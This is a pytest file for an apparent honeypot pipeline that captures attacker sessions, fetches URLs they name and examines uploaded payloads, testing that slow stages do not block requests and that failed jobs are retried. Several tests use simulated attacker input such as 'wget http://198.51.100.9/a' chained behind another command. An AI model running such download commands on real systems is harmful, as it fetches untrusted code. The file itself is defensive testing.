"""What an attacker names is asked for at once: nothing slow stands in its way."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta

import pytest
from tests.pipeline.conftest import EXAMINER, START, Bench

from urltrap.pipeline.analysing import AnalyseStage
from urltrap.pipeline.capturing import CaptureStage
from urltrap.pipeline.laboratory.bench import Looked
from urltrap.pipeline.line import Line
from urltrap.pipeline.recovering import RecoverStage
from urltrap.pipeline.stage import Stage
from urltrap.pipeline.stages import stages
from urltrap.pipeline.workshop import Workshop
from urltrap.recover.execution.stage import image
from urltrap.store import StoreUnavailable, work


class SlowExaminer:
    """Looks at a payload only when it is let."""

    def __init__(self, trouble: Exception | None = None) -> None:
        self.version = EXAMINER.version
        self.let, self.begun = threading.Event(), threading.Event()
        self.looked = 0
        self.trouble = trouble

    def examine(self, data: bytes, size: int, sha256: str) -> Looked:
        self.begun.set()
        self.looked += 1
        assert self.let.wait(30)
        if self.trouble is not None:
            raise self.trouble
        return EXAMINER.examine(data, size, sha256)

    def close(self) -> None:
        """There is no process."""


def beside(bench: Bench, examiner: SlowExaminer) -> AnalyseStage:
    """The line of a bench as a running pipeline has it; its stage that looks at payloads."""
    bench.workshop.laboratory = examiner
    parts = stages(apart=True)
    bench.line = Line(bench.workshop, bench.reader, parts)
    return next(part for part in parts if isinstance(part, AnalyseStage))


def test_the_recovery_machine_stands_before_the_first_attacker_comes() -> None:
    image.cache_clear()
    RecoverStage()
    assert image.cache_info().currsize == 1


def test_a_payload_that_takes_long_holds_no_request_up(bench: Bench) -> None:
    examiner = SlowExaminer()
    stage = beside(bench, examiner)
    bench.visit(uploads=[b"#!/bin/sh\necho slow\n"])
    bench.line.drain()
    assert examiner.begun.wait(20)
    bench.fetcher.bodies["http://198.51.100.9/a"] = b"#!/bin/sh\n"
    bench.visit(b"nosuchprogram http://198.51.100.9/a && wget http://198.51.100.9/a")
    bench.settle()
    assert b"http://198.51.100.9/a" in [request.url for request in bench.fetcher.requests]
    examiner.let.set()
    for future in stage.waiting():
        future.result(20)
    bench.line.drain()
    assert examiner.looked >= 1
    assert not work.due(bench.store, "analyse", bench.time, 10)


@pytest.mark.parametrize("trouble", [None, RuntimeError("no process")])
def test_a_look_that_ends_later_ends_its_jobs_or_has_them_tried_again(
    bench: Bench, trouble: Exception | None
) -> None:
    examiner = SlowExaminer(trouble)
    stage = beside(bench, examiner)
    body = b"#!/bin/sh\necho twice\n"
    bench.visit(uploads=[body])
    bench.visit(uploads=[body])
    bench.line.drain()
    assert not work.due(bench.store, "analyse", bench.time, 10), "lent out while it is being looked at"
    examiner.let.set()
    for future in stage.waiting():
        future.exception(20)
    bench.line.drain()
    assert examiner.looked == 1
    with bench.store.connect() as connection:
        left = connection.exec_driver_sql("SELECT error FROM jobs WHERE stage = 'analyse'").scalars().all()
    # Its two visits, and the round that looks at everything again for the rules in use.
    assert all(left) and bool(left) == (trouble is not None)


class SlowStage:
    """A stage in which something takes its time, as the answer of a reputation service may."""

    name = "slow"

    def __init__(self, trouble: Exception | None = None) -> None:
        self.begun, self.let = threading.Event(), threading.Event()
        self.trouble = trouble

    def run(self, workshop: Workshop) -> int:
        self.begun.set()
        assert self.let.wait(30)
        if self.trouble is not None:
            trouble, self.trouble = self.trouble, None
            raise trouble
        return 0


@contextmanager
def running(bench: Bench, *parts: Stage) -> Iterator[list[BaseException]]:
    """The line of a bench at work; the list becomes what ended it."""
    bench.line = Line(bench.workshop, bench.reader, parts)
    stop, ended = threading.Event(), list[BaseException]()

    def run() -> None:
        try:
            bench.line.run(stop)
        except RuntimeError as error:
            ended.append(error)

    thread = threading.Thread(target=run)
    thread.start()
    try:
        yield ended
    finally:
        stop.set()
        for part in parts:
            if isinstance(part, SlowStage):
                part.let.set()
        thread.join(30)
        assert not thread.is_alive()


def test_a_stage_that_takes_long_holds_no_request_up(bench: Bench) -> None:
    slow, asked = SlowStage(), threading.Event()
    answer = bench.fetcher.fetch

    def fetch(request, timeout=120.0):  # type: ignore[no-untyped-def]
        asked.set()
        return answer(request, timeout)

    bench.fetcher.fetch = fetch  # type: ignore[method-assign]
    begun = time.monotonic()
    bench.workshop.now = lambda: START + timedelta(seconds=time.monotonic() - begun)
    with running(bench, RecoverStage(), CaptureStage(), slow):
        assert slow.begun.wait(20)
        bench.visit(b"nosuchprogram http://198.51.100.9/a && wget http://198.51.100.9/a")
        assert asked.wait(20), "the slow stage is still at work"
        assert not slow.let.is_set()


def test_the_store_may_be_away_for_one_thread_of_the_line(bench: Bench) -> None:
    slow = SlowStage(StoreUnavailable("gone for a moment"))
    slow.let.set()
    with running(bench, slow) as ended:
        assert slow.begun.wait(20)
        slow.begun.clear()
        assert slow.begun.wait(20), "tried again"
    assert not ended


def test_what_breaks_the_prompt_part_of_the_line_ends_all_of_it(bench: Bench) -> None:
    class Broken(SlowStage):
        name = "recover"

    broken = Broken(RuntimeError("no way on"))
    with running(bench, broken) as ended:
        broken.let.set()
        assert broken.begun.wait(20)
        for thread in threading.enumerate():
            if thread.name == "prompt":
                thread.join(20)
    assert [str(error) for error in ended] == ["no way on"]


def test_texts_that_take_long_are_recovered_a_few_at_a_time_typed_lines_first(bench: Bench) -> None:
    seconds = iter(range(1000))
    stage = RecoverStage(lambda: float(next(seconds)))  # each look at the clock is a second later
    session = bench.visit(
        *(b"wget http://198.51.100.9/%d" % number for number in range(5)), uploads=[b"#!/bin/sh\ntrue\n"]
    )
    bench.line._intake.step()
    file = f"{session}/7/{bench.quarantine.put(b'#!/bin/sh').sha256}"
    with bench.store.begin() as connection:
        work.put(connection, "recover", [file], bench.time - timedelta(minutes=1))
    order: list[str] = []
    for left in (5, 4):
        before = {job.subject for job in work.due(bench.store, "recover", bench.time, 100)}
        assert stage.run(bench.workshop) == 1
        after = {job.subject for job in work.due(bench.store, "recover", bench.time, 100)}
        order += before - after
        assert len(after) == left
    assert file not in order
    while stage.run(bench.workshop):
        pass
    assert not work.due(bench.store, "recover", bench.time, 100)


def test_where_more_waits_than_can_be_asked_the_newest_is_asked_first(bench: Bench) -> None:
    stage = CaptureStage()
    with bench.store.begin() as connection:
        for number in range(200):
            work.put(connection, "capture", [f"old{number}"], bench.time - timedelta(minutes=200 - number))
        work.put(connection, "capture", ["new"], bench.time)
    stage.run(bench.workshop)
    left = [job.subject for job in work.due(bench.store, "capture", bench.time, 1000)]
    assert "new" not in left and "old0" in left
    while stage.run(bench.workshop):
        pass
    assert not work.due(bench.store, "capture", bench.time, 1000)
